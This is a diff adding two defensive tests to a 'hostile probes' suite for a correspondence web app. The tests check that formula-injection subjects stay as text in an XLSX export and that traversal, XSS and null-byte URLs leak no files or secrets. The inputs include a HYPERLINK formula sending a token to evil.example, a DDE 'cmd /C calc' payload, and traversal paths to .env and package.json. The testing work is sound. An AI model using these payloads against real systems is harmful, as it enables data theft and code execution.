@@ -272,6 +272,16 @@ describe('hostile probes 2026-12-04', () => {
     expect(otherTxt).not.toContain(secret);
   });
 
+  it('agenda XLSX: a subject written as a formula stays text (no <f> cell), control-free', async () => {
+    const today = new Date(Date.now() + 7 * 3_600_000).toISOString().slice(0, 10);
+    await insertSignedLetterFixture(http.ds, { office: '5204', subject: `=HYPERLINK("https://evil.example/${tok}","klik")`, securityClass: 'B', to: [{ office: '52' }] });
+    await insertSignedLetterFixture(http.ds, { office: '5204', subject: `@SUM(1+1)*cmd|' /C calc'!A0 ${tok}`, securityClass: 'B', to: [{ office: '52' }] });
+    const xlsx = await http.app.inject({ method: 'GET', url: `/api/agenda/outgoing?from=${today}&to=${today}&format=xlsx`, headers: { authorization: `Bearer ${T['pencatat.5204']}` } });
+    expect(xlsx.statusCode).toBe(200);
+    const sheet = require('node:child_process').execFileSync('sh', ['-c', 'f=$(mktemp); cat > $f; unzip -p $f "xl/worksheets/*.xml"; rm -f $f'], { input: xlsx.rawPayload, maxBuffer: 64 << 20 }).toString('utf8');
+    expect(sheet).not.toMatch(/<f>[^<]*HYPERLINK|<f>[^<]*SUM/);
+  });
+
   // ------------------------------------------------------------------ /api/verify
   const multipart = (data: Buffer, name = 'file', filename = 'x.pdf') => {
     const boundary = `----hostile${tok}`;
@@ -467,6 +477,15 @@ describe('hostile probes 2026-12-04', () => {
     for (const id of ['0', '-1', '1e3', '01', 'abc']) {
       const r = await http.request('GET', `/api/deliveries/${id}/disposition-sheet`, { token: T['pencatat.5204'] });
       expect([id, r.status]).toEqual([id, 400]);
+    }
+  });
+
+  it('web routes: traversal and hostile ids under /naskah, /antrean, /naskah-masuk never serve files outside the UI nor 500', async () => {
+    for (const url of ['/naskah/%2e%2e%2f%2e%2e%2f%2e%2e%2fpackage.json', '/naskah/..%2f..%2f..%2f.env', '/antrean/%2e%2e/%2e%2e/%2e%2e/package.json', '/naskah-masuk/registrasi/..%5c..%5cpackage.json',
+      '/naskah/%3Cscript%3Ealert(1)%3C%2Fscript%3E', '/antrean/%00', '/naskah/' + 'x'.repeat(5000), '/lama/..%2f..%2fpackage.json', '/assets/..%2f..%2f..%2fpackage.json']) {
+      const r = await http.request('GET', url);
+      const s = typeof r.body === 'string' ? r.body : JSON.stringify(r.body);
+      expect([url.slice(0, 60), r.status < 500, /"dependencies"|DATABASE_URL|JWT_SECRET|<script>alert/.test(s)]).toEqual([url.slice(0, 60), true, false]);
     }
   });
 
